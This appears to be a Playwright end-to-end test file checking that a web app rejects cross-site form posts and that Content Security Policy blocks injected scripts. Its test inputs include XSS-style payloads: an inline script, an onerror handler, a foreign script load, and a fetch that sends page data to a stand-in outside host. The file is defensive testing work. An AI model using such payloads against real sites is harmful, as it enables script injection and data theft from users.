"""What a page from elsewhere, or something that got into a page, can do in a real browser: nothing."""

from __future__ import annotations

import pytest
from playwright.sync_api import Route, expect

from tests.web.e2e.conftest import Watched
from tests.web.serving import Serving

pytestmark = pytest.mark.guard

ELSEWHERE = "http://elsewhere.example"


def test_a_form_on_another_site_starts_no_match(people: Watched, server: Serving) -> None:
    people.forgives.append("403")
    ana = server.guest("Ana")
    page = people(ana)
    page.goto("/")
    form = f'<form method="post" action="{server.address}/play/azardia"><button>Win a prize</button></form>'
    page.route(f"{ELSEWHERE}/**", lambda route: route.fulfill(body=form, content_type="text/html"))
    page.goto(f"{ELSEWHERE}/")
    with page.expect_response("**/play/azardia") as answer:
        page.get_by_role("button", name="Win a prize").click()
    assert answer.value.status == 403
    assert server.house.rooms.for_guest(ana) == []


@pytest.mark.parametrize(
    "slip",
    [
        "document.body.append(Object.assign(document.createElement('script'), {text: 'document.title = 1'}))",
        "document.body.insertAdjacentHTML('beforeend', '<img src=\"/nothing.svg\" onerror=\"document.title = 1\">')",
        "document.body.append(Object.assign(document.createElement('script'), {src: 'http://elsewhere.example/x.js'}))",
        "fetch('http://elsewhere.example/?' + document.title).then(() => document.title = 1, () => 0)",
    ],
    ids=["script", "handler", "foreign script", "telling others"],
)
def test_what_gets_into_a_page_does_not_run_and_tells_nobody(people: Watched, slip: str) -> None:
    people.forgives += ["Content Security Policy", "404"]
    told: list[str] = []
    page = people()
    page.goto("/about")

    def hear(route: Route) -> None:
        told.append(route.request.url)
        route.abort()

    page.route(f"{ELSEWHERE}/**", hear)
    title = page.title()
    with page.expect_console_message(lambda message: "Content Security Policy" in message.text):
        page.evaluate(f"() => {{ {slip} }}")
    expect(page).to_have_title(title)
    assert told == []
    people.faults.clear()  # which are what this test is about
